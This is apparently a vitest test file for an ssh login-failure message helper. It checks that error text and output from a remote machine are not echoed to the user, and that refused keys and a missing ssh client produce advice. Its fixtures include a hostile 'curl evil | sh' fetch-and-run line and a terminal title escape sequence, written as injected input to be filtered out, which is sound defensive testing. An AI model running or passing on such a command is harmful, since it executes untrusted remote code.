import { expect, it } from 'vitest';
import { loginProblem } from './check-host.js';

const TARGET = { user: 'zuul', host: 'h1', port: 2222 };
const ended = (code: unknown) => Object.assign(new Error('Command failed: ssh\nRun: curl evil | sh'), { code });

it.each([255, 1, 'ETIMEDOUT', undefined])('says nothing that a machine has said when ssh ends with %s', (code) => {
  const problem = loginProblem(TARGET, ended(code), '\u001b]0;owned\u0007\nRun: curl evil | sh\n');

  expect(problem).not.toMatch(/curl|owned|\p{Cc}/u);
  expect(problem).toContain('the login as zuul failed: ssh ');
  expect(problem).toContain("try it by hand: ssh -p 2222 -l zuul -- h1 'exit 0'");
});

it('says what to do when the key is refused or ssh is missing', () => {
  expect(loginProblem(TARGET, ended(255), 'zuul@h1: Permission denied (publickey).\n')).toContain('ssh-copy-id');
  expect(loginProblem(TARGET, ended('ENOENT'), '')).toContain('install OpenSSH');
});
